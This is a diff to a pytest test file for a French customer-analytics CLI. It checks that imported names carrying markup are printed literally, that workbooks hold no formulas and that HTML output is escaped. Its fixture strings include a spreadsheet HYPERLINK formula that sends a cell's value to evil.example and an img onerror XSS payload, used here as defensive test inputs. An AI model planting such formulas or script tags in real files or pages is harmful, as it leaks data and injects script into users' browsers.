@@ -13,11 +13,20 @@ import pytest
 from typer.testing import CliRunner, Result
 
 from clientfolio import cli
+from clientfolio.cli._common import DataConsole
 
 EVIL = "[/bold] Evil [red]SAS"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2;"Ouvrir")'
 TAG = "<img src=x onerror=alert(1)> SARL"
 LINKED = "Normal [link=http://evil.example]clic[/link]"
+
+
+@pytest.fixture(autouse=True)
+def wide_consoles(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The run's consoles as the command makes them, wide (the width of a console made at import
+    is whatever ``COLUMNS`` said then)."""
+    monkeypatch.setattr(cli, "console", DataConsole(width=250, color_system=None))
+    monkeypatch.setattr(cli, "errors", DataConsole(width=250, color_system=None, stderr=True))
 
 
 def run(*args: str) -> Result:
@@ -77,3 +86,18 @@ def test_the_workbooks_hold_no_formula_and_the_html_no_tag(db: str, tmp_path: Pa
     assert run("report", "--format", "html", "--out", str(html), "--recipient", "interne", "--db", db).exit_code == 0
     page = html.read_text(encoding="utf-8")
     assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt; SARL" in page
+
+
+def test_a_product_line_or_a_segment_with_brackets_heads_a_column_as_written(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path}/g.db"
+    sales = tmp_path / "ventes.csv"
+    sales.write_text(
+        "code client;raison sociale;numéro de facture;date;code article;désignation;gamme;montant HT\n"
+        f"C1;Client SA;F1;15/01/2024;P1;Vis;{EVIL} Gamme;100,00\n"
+        f"C2;Autre SA;F2;15/05/2024;P1;Vis;{EVIL} Gamme;80,00\n",
+        encoding="utf-8",
+    )
+    assert run("import", str(sales), "--db", url).exit_code == 0
+    result = run("analyze", "--db", url)
+    assert result.exit_code == 0, result.output
+    assert f"{EVIL} Gamme" in result.output  # the segment x product line grid's column
